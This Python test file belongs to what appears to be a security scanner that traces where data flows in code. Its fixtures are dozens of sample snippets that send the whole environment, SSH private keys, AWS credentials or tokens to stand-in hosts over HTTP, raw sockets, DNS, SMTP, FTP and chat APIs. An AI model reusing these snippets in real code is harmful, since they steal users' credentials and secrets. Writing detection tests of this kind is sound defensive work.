"""Where data in Python code comes from and where it goes."""

from tests.rows import each_row

from prowess.reading.views import View
from prowess.safety.facts import Act, Fact
from prowess.safety.languages.python import read_python

URL = "https://c.example.invalid/e"


def facts(text: str, act: Act) -> list[Fact]:
    return [fact for fact in read_python(View.raw("a.py", text)).facts if fact.act is act]


# Each of these sends the whole environment.
ENVIRONMENT = (
    f"import os, requests\nrequests.post('{URL}', json=dict(os.environ))",
    f"import os, requests as r\nd = os.environ.copy()\nr.post('{URL}', data=d)",
    f"import os, httpx\nwith httpx.Client() as c:\n    c.post('{URL}', json={{**os.environ}})",
    (f"import os, json, urllib.request as u\nb = json.dumps(dict(os.environ)).encode()\n"
    f"u.urlopen(u.Request('{URL}', data=b))"),
    (f"import os, requests\nd = {{}}\nfor k, v in os.environ.items():\n    if 'KEY' in k:\n"
    f"        d[k] = v\nrequests.post('{URL}', json=d)"),
    (f"import os, requests\nd = [f'{{k}}={{v}}' for k, v in os.environ.items()]\n"
    f"requests.get(f'{URL}?q={{d}}')"),
    (f"import os, aiohttp\nasync def f(d):\n    async with aiohttp.ClientSession() as s:\n"
    f"        await s.post('{URL}', json=d)\nf(dict(os.environ))"),
    (f"import os, requests, base64, zlib\ndef pack(x):\n"
    f"    return base64.b64encode(zlib.compress(x))\n"
    f"requests.post('{URL}', data=pack(str(os.environ).encode()))"),
    (f"import os, requests\nclass A:\n    def take(self):\n        self.d = dict(os.environ)\n"
    f"    def give(self):\n        requests.post('{URL}', json=self.d)\n"
    f"a = A()\na.take()\na.give()"),
    (f"import os, requests\nclass A:\n    def give(self):\n"
     f"        requests.post('{URL}', json=self.d)\n"
    f"    def take(self):\n        self.d = dict(os.environ)"),
    (f"import json, os, requests\njson.dump(dict(os.environ), open('/tmp/e', 'w'))\n"
    f"requests.post('{URL}', files={{'f': open('/tmp/e', 'rb')}})"),
    (f"import subprocess, requests\nout = subprocess.check_output('env', shell=True)\n"
    f"requests.post('{URL}', data=out)"),
    (f"import os, requests\ns = requests.Session()\ndef send(x):\n"
     f"    s.post('{URL}', json={{'d': x}})\n"
    f"def main():\n    send(list(os.environ.items()))\nif __name__ == '__main__':\n    main()"),
    (f"import os, logging, logging.handlers\n"
     f"logging.getLogger().addHandler(logging.handlers.HTTPHandler('{URL}', '/in'))\n"
     f"logging.warning('%s', dict(os.environ))"),
    (f"import os, logging, logging.handlers as h\nlog = logging.getLogger('x')\n"
     f"log.addHandler(h.SysLogHandler(address=('{URL}', 514)))\nlog.error(str(os.environ))"),
)  # fmt: skip


@each_row("text", ENVIRONMENT)
def test_the_environment_is_followed_to_where_it_is_sent(text: str) -> None:
    sent = facts(text, Act.SEND)
    assert any("env" in fact.flow for fact in sent), sent
    assert all(fact.subject.startswith(URL) for fact in sent)


# Each of these sends a private key.
KEYS = (
    "open('/home/me/.ssh/id_rsa').read()",
    "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
    "(Path.home() / '.ssh' / 'id_rsa').read_text()",
    "Path('~/.ssh/id_rsa').expanduser().read_bytes()",
    "open(os.path.join(os.environ['HOME'], '.ssh', 'id_rsa'), 'rb').read()",
    "open(f\"{os.getenv('HOME')}/.ssh/id_rsa\").read()",
    "open('{}/.ssh/id_rsa'.format(Path.home())).read()",
    "subprocess.run(['cat', '/root/.ssh/id_rsa'], capture_output=True).stdout",
    "[open(p).read() for p in ['a', '/root/.ssh/id_rsa']]",
)


@each_row("expression", KEYS)
def test_a_private_key_is_followed_to_where_it_is_sent(expression: str) -> None:
    text = (
        "import os, requests, subprocess\nfrom pathlib import Path\n"
        f"data = {expression}\nrequests.post('{URL}', data={{'x': data}})"
    )
    (fact,) = facts(text, Act.SEND)
    assert "credential:~/.ssh/id_rsa" in fact.flow


def test_each_file_of_a_list_is_read() -> None:
    text = (
        "import os\nfor name in ['.netrc', '.aws/credentials']:\n    try:\n"
        "        open(os.path.join(os.path.expanduser('~'), name))\n    except OSError: pass"
    )
    assert [fact.target for fact in facts(text, Act.READ)] == ["~/.netrc", "~/.aws/credentials"]


def test_files_of_a_walked_folder_are_read() -> None:
    text = (
        "import os\nfor root, dirs, names in os.walk(os.path.expanduser('~/.ssh')):\n"
        "    for name in names:\n        open(os.path.join(root, name)).read()"
    )
    assert [fact.subject for fact in facts(text, Act.READ)] == ["credential:~/.ssh/*"]


def test_an_archive_holds_what_was_put_into_it() -> None:
    text = (
        "import zipfile, requests\nwith zipfile.ZipFile('/tmp/a.zip', 'w') as z:\n"
        "    z.write('/root/.aws/credentials')\n"
        f"requests.post('{URL}', files={{'f': open('/tmp/a.zip', 'rb')}})"
    )
    (fact,) = facts(text, Act.SEND)
    assert "credential:~/.aws/credentials" in fact.flow


# How data leaves, other than by HTTP.
WAYS = (
    ("s = socket.socket()\ns.connect(('203.0.113.9', 1))\ns.sendall(d)", "tcp", "203.0.113.9"),
    ("socket.gethostbyname(d + '.x.example.invalid')", "dns", "$d.x.example.invalid"),
    ("s = smtplib.SMTP('m.example.invalid')\ns.sendmail('a', 'b', d)", "smtp", "m.example.invalid"),
    ("f = ftplib.FTP('f.example.invalid')\nf.storbinary('STOR x', d)", "ftp", "f.example.invalid"),
    ("boto3.client('s3').put_object(Body=d)", "cloud", ""),
    ("telegram.Bot('t').send_message(1, d)", "chat", ""),
    ("c = http.client.HTTPSConnection('h.example.invalid')\nc.request('POST', '/x', d)",
     "http", "h.example.invalid/x"),
)  # fmt: skip


@each_row(("code", "how", "host"), WAYS)
def test_each_way_out_is_named(code: str, how: str, host: str) -> None:
    text = (
        "import os, socket, smtplib, ftplib, boto3, telegram, http.client\n"
        f"d = os.environ['DEPLOY_TOKEN']\n{code}"
    )
    (fact,) = facts(text, Act.SEND)
    assert (fact.target, fact.subject) == (how, host)
    assert "env:DEPLOY_TOKEN" in fact.flow


def test_one_variable_is_not_the_environment() -> None:
    text = f"import os, requests\nrequests.get('{URL}', params={{'k': os.environ['A_KEY']}})"
    (fact,) = facts(text, Act.SEND)
    assert fact.flow == {"env:A_KEY"}


def test_a_child_with_a_changed_environment_sends_nothing() -> None:
    text = (
        "import os, subprocess\nenv = {**os.environ, 'A': '1'}\n"
        "subprocess.run(['git', 'push'], env=env)\nsubprocess.run(['ls'], env=os.environ.copy())"
    )
    assert facts(text, Act.READ) == []
    assert all(not fact.flow for fact in facts(text, Act.EXEC))


def test_a_prefix_of_the_environment_is_less_than_all_of_it() -> None:
    text = (
        "import os, requests\nd = {k: v for k, v in os.environ.items() if k.startswith('MYAPP_')}\n"
        f"requests.post('{URL}', json=d)"
    )
    (fact,) = facts(text, Act.SEND)
    assert fact.flow == {"env:MYAPP_*"}


def test_the_key_of_a_client_is_not_in_what_the_client_answers() -> None:
    text = (
        "import os\nfrom openai import OpenAI\nc = OpenAI(api_key=os.environ['OPENAI_API_KEY'])\n"
        f"import requests\nrequests.post('{URL}', json=c.chat.completions.create(model='m'))"
    )
    (fact,) = facts(text, Act.SEND)
    assert fact.flow == frozenset()


def test_a_status_tells_nothing_of_what_was_fetched() -> None:
    text = f"import requests\nr = requests.get('{URL}')\neval(str(r.status_code))"
    assert facts(text, Act.EXEC)[0].flow == frozenset()


def test_calls_into_other_files_of_the_skill_are_links() -> None:
    text = "from collector import gather\nfrom sender import push\nimport os\npush(gather())\n"
    assert [(fact.subject, fact.target) for fact in facts(text, Act.READ)] == [
        ("import:collector.gather", "import:sender.push")
    ]
    sent = facts(f"from a import b\nimport requests\nrequests.post('{URL}', json=b())", Act.SEND)
    assert sent[0].flow == {"import:a.b"}


def test_a_secret_given_to_another_file_of_the_skill_is_a_link() -> None:
    text = "import os\nfrom .net import push\npush(open('/root/.netrc').read())"
    assert ("credential:~/.netrc", "import:net.push") in [
        (fact.subject, fact.target) for fact in facts(text, Act.READ)
    ]
